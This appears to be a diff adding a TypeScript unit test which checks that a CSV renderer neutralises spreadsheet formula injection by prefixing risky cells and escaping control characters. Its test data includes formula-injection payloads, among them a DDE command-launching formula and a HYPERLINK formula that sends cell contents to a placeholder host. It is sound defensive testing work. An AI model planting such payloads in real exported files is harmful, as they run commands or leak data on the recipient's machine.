@@ -12,3 +12,25 @@ test('quotes only where they must be, and nothing that a terminal obeys', () => 
   );
   assert.equal(renderCsv([]), '');
 });
+
+test('a text that a spreadsheet would run is a text, and a number stays one', () => {
+  const cases: [text: string, cell: string][] = [
+    ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
+    ['=HYPERLINK("http://x/?"&A1,"y")', `"'=HYPERLINK(""http://x/?""&A1,""y"")"`],
+    ['+1+cmd', "'+1+cmd"],
+    ['-2+3', "'-2+3"],
+    ['-2Gi+cmd', "'-2Gi+cmd"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\uff1d1+1', "'\uff1d1+1"],
+    ['-', "'-"],
+    // At the start an escape, and none of these signs.
+    ['\t=1', '\\t=1'],
+    ['\r=1', '\\r=1'],
+    // Where a semicolon parts cells, what follows it is not at the start of one.
+    ['a;=1+1', '"a;=1+1"'],
+    ...['-5', '+5', '-0.25', '1e-9', '-1E+30', '-2Gi', '-100m', '-5k', 'a=b', 'a-b', ''].map(
+      (same): [string, string] => [same, same],
+    ),
+  ];
+  for (const [text, cell] of cases) assert.equal(renderCsv([['a', text]]), `a,${cell}`);
+});
